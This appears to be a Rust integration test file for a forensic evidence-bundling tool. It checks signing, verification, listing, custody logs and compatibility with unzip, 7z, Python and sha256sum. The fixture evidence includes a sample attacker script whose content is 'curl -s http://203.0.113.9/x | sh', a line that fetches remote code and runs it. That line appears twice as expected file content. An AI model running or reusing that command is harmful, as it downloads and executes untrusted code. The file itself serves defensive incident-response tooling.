//! The responder's path: keygen, seal, verify, ls, custody log; and what standard tools see.

use crate::util::*;
use std::process::Command;

#[test]
fn sealed_checklist_directory_verifies_with_forensic_and_standard_tools() {
    let tmp = tempfile::tempdir().unwrap();
    let (bundle, _key, public) = sealed_bundle(tmp.path());
    let b = bundle.to_str().unwrap();

    let o = run(&["verify", b]);
    assert_eq!(code(&o), 0, "{}{}", stdout(&o), stderr(&o));
    let text = stdout(&o);
    assert!(text.contains("VERIFIED: 13 members match the manifest"), "{text}");
    assert!(
        text.contains("case CASE-42 · evidence 7 · examiner A. Responder"),
        "{text}"
    );
    assert!(text.contains("#0 sealed"), "{text}");

    let o = run(&["verify", b, "--trust", public.to_str().unwrap(), "--json"]);
    assert_eq!(code(&o), 0, "{}", stdout(&o));
    let v = json(&o);
    assert_eq!(v["verified"], true);
    assert_eq!(v["members"], 13);
    assert_eq!(v["custody"][0]["action"], "sealed");
    assert_eq!(v["custody"][0]["trusted"], true);
    let sections: Vec<&str> = v["sections"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["name"].as_str().unwrap())
        .collect();
    assert_eq!(sections, ["processes", "network", "logs", "filesystem", "podspec"]);

    // SPEC §14: the bundle checks with unzip and sha256sum alone.
    let o = Command::new("unzip").args(["-t", b]).output().unwrap();
    assert!(o.status.success(), "unzip -t: {}", stdout(&o));
    assert!(stdout(&o).contains("No errors detected"), "{}", stdout(&o));
    // SPEC §2.1: readable by 7-Zip and Python's zipfile too.
    let o = Command::new("7z")
        .args(["t", b])
        .output()
        .expect("7z is installed (p7zip-full, .ci/run)");
    assert!(
        o.status.success() && stdout(&o).contains("Everything is Ok"),
        "7z t: {}",
        stdout(&o)
    );
    let py =
        "import sys, zipfile; z = zipfile.ZipFile(sys.argv[1]); assert z.testzip() is None; print(len(z.namelist()))";
    let o = Command::new("python3").args(["-c", py, b]).output().unwrap();
    assert!(o.status.success(), "python zipfile: {}", stderr(&o));
    assert_eq!(stdout(&o).trim(), "17", "13 members, mimetype and 3 metadata members");
    let copy = tmp.path().join("copy");
    let o = Command::new("unzip")
        .args(["-q", b, "-d", copy.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    let o = Command::new("sha256sum")
        .args(["-c", "--strict", "SHA256SUMS"])
        .current_dir(&copy)
        .output()
        .unwrap();
    assert!(o.status.success(), "sha256sum -c: {}{}", stdout(&o), stderr(&o));
    assert_eq!(
        stdout(&o).lines().filter(|l| l.ends_with(": OK")).count(),
        14,
        "13 members and the manifest"
    );
    assert_eq!(
        std::fs::read(copy.join("mimetype")).unwrap(),
        b"application/vnd.forensic-bundle.v1+zip"
    );
    assert_eq!(
        std::fs::read(copy.join("5-filesystem/files/payload.sh")).unwrap(),
        b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
    );
}

#[test]
fn seal_records_sections_sources_metadata_and_target() {
    let tmp = tempfile::tempdir().unwrap();
    let (bundle, _, _) = sealed_bundle(tmp.path());
    let o = run(&["ls", bundle.to_str().unwrap(), "--json"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let v = json(&o);
    let names: Vec<&str> = v["members"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        [
            "1-processes/open-files.txt",
            "2-network/connections.txt",
            "4-logs/pod-logs-previous.txt",
            "4-logs/pod-logs.txt",
            "5-filesystem/files/miner",
            "5-filesystem/files/payload.sh",
            "5-filesystem/shm-files.txt",
            "5-filesystem/tmp-files.txt",
            "6-podspec/container-id.txt",
            "6-podspec/container-inspect.json",
            "6-podspec/events.txt",
            "6-podspec/pod-describe.txt",
            "6-podspec/pod-spec.yaml",
        ]
    );
    let payload = v["members"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["name"] == "5-filesystem/files/payload.sh")
        .unwrap();
    assert_eq!(payload["size"], 44);
    assert_eq!(
        payload["sha256"],
        sha256_hex(b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")
    );
    assert!(
        payload["source"]["path"]
            .as_str()
            .unwrap()
            .ends_with("/evidence/20240115-100000/files/payload.sh")
    );
    assert_eq!(payload["meta"]["type"], "file");
    assert_eq!(payload["meta"]["size"], 44);
    let o = run(&["ls", bundle.to_str().unwrap(), "--section", "network"]);
    assert_eq!(code(&o), 0);
    assert!(stdout(&o).starts_with("2-network/\n"), "{}", stdout(&o));
    assert!(!stdout(&o).contains("4-logs"), "{}", stdout(&o));
}

fn sha256_hex(b: &[u8]) -> String {
    forensic_bundle::digest::Digest::of(b).hex()
}

#[test]
fn keys_are_pkcs8_and_spki_that_openssl_reads_and_fingerprints_match() {
    let tmp = tempfile::tempdir().unwrap();
    let base = tmp.path().join("alice");
    let o = run(&["keygen", "-o", base.to_str().unwrap(), "--json"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let fp = json(&o)["fingerprint"].as_str().unwrap().to_string();
    let key = tmp.path().join("alice.key");
    let public = tmp.path().join("alice.pub");
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(std::fs::metadata(&key).unwrap().permissions().mode() & 0o777, 0o600);
    let o = Command::new("openssl")
        .args(["pkey", "-in", key.to_str().unwrap(), "-noout"])
        .output()
        .unwrap();
    assert!(o.status.success(), "openssl reads the private key: {}", stderr(&o));
    let o = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "openssl pkey -pubin -in '{}' -outform DER | sha256sum",
            public.display()
        ))
        .output()
        .unwrap();
    assert!(o.status.success());
    assert_eq!(
        stdout(&o).split_whitespace().next().unwrap(),
        fp,
        "SPEC §8 fingerprint by hand"
    );
    let o = run(&["keygen", "-o", base.to_str().unwrap()]);
    assert_eq!(code(&o), 2, "refuses to overwrite");
    assert!(stderr(&o).contains("already exists"), "{}", stderr(&o));
}

#[test]
fn verify_with_someone_elses_key_is_untrusted() {
    let tmp = tempfile::tempdir().unwrap();
    let (bundle, _, _) = sealed_bundle(tmp.path());
    let (_, other) = keygen(tmp.path(), "someone-else");
    let o = run(&["verify", bundle.to_str().unwrap(), "--trust", other.to_str().unwrap()]);
    assert_eq!(code(&o), 1, "{}", stdout(&o));
    assert!(stdout(&o).contains("untrusted-signer"), "{}", stdout(&o));
    assert!(stdout(&o).contains("NOT TRUSTED"), "{}", stdout(&o));
    // A directory trust list that holds the right key as well.
    std::fs::create_dir(tmp.path().join("trusted")).unwrap();
    std::fs::copy(
        tmp.path().join("responder.pub"),
        tmp.path().join("trusted/responder.pub"),
    )
    .unwrap();
    std::fs::copy(&other, tmp.path().join("trusted/other.pub")).unwrap();
    let o = run(&[
        "verify",
        bundle.to_str().unwrap(),
        "--trust",
        tmp.path().join("trusted").to_str().unwrap(),
    ]);
    assert_eq!(code(&o), 0, "{}", stdout(&o));
}

#[test]
fn seal_refuses_unplaced_files_and_existing_output_and_leaves_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = checklist_dir(tmp.path());
    write(&dir, "notes-from-bob.md", b"?");
    write(&dir, "weird.bin", b"?");
    let (key, _) = keygen(tmp.path(), "k");
    let out = tmp.path().join("b.zip");
    let o = seal(&dir, &out, &key, &[]);
    assert_eq!(code(&o), 2);
    let err = stderr(&o);
    assert!(err.contains("notes-from-bob.md") && err.contains("weird.bin"), "{err}");
    assert!(err.contains("--section"), "{err}");
    assert!(!out.exists());
    let leftovers: Vec<_> = std::fs::read_dir(tmp.path())
        .unwrap()
        .filter_map(|e| e.ok())
        .filter(|e| e.file_name().to_string_lossy().contains("partial"))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");

    let o = seal(
        &dir,
        &out,
        &key,
        &["--section", "filesystem=*.bin", "--section", "podspec=notes-*"],
    );
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let before = std::fs::read(&out).unwrap();
    let o = seal(&dir, &out, &key, &["--section", "filesystem=*"]);
    assert_eq!(code(&o), 2);
    assert!(stderr(&o).contains("exists"), "{}", stderr(&o));
    assert_eq!(std::fs::read(&out).unwrap(), before, "the existing bundle is untouched");
}

#[test]
fn unreadable_or_foreign_input_gets_the_documented_exit_code() {
    let tmp = tempfile::tempdir().unwrap();
    let o = run(&["verify", tmp.path().join("nope.zip").to_str().unwrap()]);
    assert_eq!(code(&o), 2, "missing file: could not run");
    assert!(stderr(&o).contains("nope.zip"), "{}", stderr(&o));
    assert_eq!(
        stderr(&o).matches("No such file or directory").count(),
        1,
        "the cause once: {}",
        stderr(&o)
    );
    let not_zip = tmp.path().join("notes.txt");
    std::fs::write(&not_zip, b"just some text, not a bundle\n").unwrap();
    let o = run(&["verify", not_zip.to_str().unwrap()]);
    assert_eq!(code(&o), 1);
    assert!(stdout(&o).contains("malformed-container"), "{}", stdout(&o));
    let o = run(&["verify"]);
    assert_eq!(code(&o), 2, "usage error");
}

#[test]
fn custody_log_lists_the_seal() {
    let tmp = tempfile::tempdir().unwrap();
    let (bundle, _, public) = sealed_bundle(tmp.path());
    let o = run(&[
        "custody",
        "log",
        bundle.to_str().unwrap(),
        "--trust",
        public.to_str().unwrap(),
        "--json",
    ]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let v = json(&o);
    let entries = v["entries"].as_array().unwrap();
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0]["action"], "sealed");
    assert_eq!(entries[0]["actor"], "A. Responder");
    assert_eq!(entries[0]["signature_ok"], true);
    assert_eq!(entries[0]["trusted"], true);
    assert_eq!(entries[0]["entry_sha256"], v["custody_head_sha256"]);
}
